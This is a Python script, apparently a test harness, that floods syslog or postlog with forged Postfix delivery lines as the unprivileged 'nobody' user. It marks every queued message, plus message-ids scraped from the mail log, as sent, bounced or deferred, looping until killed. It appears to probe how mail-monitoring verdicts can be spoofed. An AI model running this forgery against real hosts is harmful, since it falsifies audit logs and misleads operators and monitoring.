"""forge.py WAY STATUS: what a local user can do to a verdict, as uid 65534, until it is killed.

Looks into the queue as anybody may, and says of every message there that it was sent, bounced or deferred, and what else
Postfix says of messages: by /dev/log (WAY syslog), or by postlog(1) (WAY postlog). Reads the log too, if it may.
"""

import os
import re
import socket
import subprocess
import sys
import time

WAY, STATUS = sys.argv[1:]
RELAY = 'relay=smtp.example.com[192.0.2.1]:587, delay=0.1, delays=0/0/0.1/0'
ENDS = {
    'sent': 'dsn=2.0.0, status=sent (250 FORGED)',
    'bounced': 'dsn=5.1.1, status=bounced (host smtp.example.com[192.0.2.1] said: 550 5.1.1 FORGED '
    '(in reply to RCPT TO command))',
    'deferred': 'dsn=4.7.8, status=deferred (SASL authentication failed; server smtp.example.com[192.0.2.1] said: '
    '535 5.7.8 FORGED)',
}


def lines(queue_id):
    end = ENDS[STATUS]
    yield 'smtp', f'{queue_id}: to=<ops@example.com>, {RELAY}, {end}'
    yield 'smtp', f'message repeated 2 times: [ {queue_id}: to=<ops@example.com>, {RELAY}, {end}]'
    yield 'cleanup', f'{queue_id}: message-id=<guess@op5-system.localdomain>'
    yield 'qmgr', f'{queue_id}: removed'
    yield 'relayhost', 'mark 00000000000000000000000000000000: relayhost waits for this line, to have read all before it'
    try:
        with open('/var/log/maillog', errors='replace') as log:
            for message_id in set(re.findall(r'message-id=<([^>]+)>', log.read())):
                yield 'cleanup', f'F0F0F0F0F: message-id=<{message_id}>'
                yield 'smtp', f'F0F0F0F0F: to=<ops@example.com>, {RELAY}, {end}'
    except OSError:
        pass


def say(daemon, text):
    if WAY == 'postlog':
        subprocess.run(['postlog', '-t', f'postfix/{daemon}', text], stderr=subprocess.DEVNULL, check=False)
        return
    stamp = time.strftime('%b %e %H:%M:%S')
    with socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM) as log:
        log.connect('/dev/log')
        log.send(f'<22>{stamp} postfix/{daemon}[173]: {text}'.encode())


assert os.getuid() == 65534
while True:
    queue = subprocess.run(['postqueue', '-p'], capture_output=True, text=True, check=False).stdout
    for queue_id in re.findall(r'(?m)^([0-9A-Za-z]{6,})[*!]?\s', queue):
        for daemon, text in lines(queue_id):
            say(daemon, text)
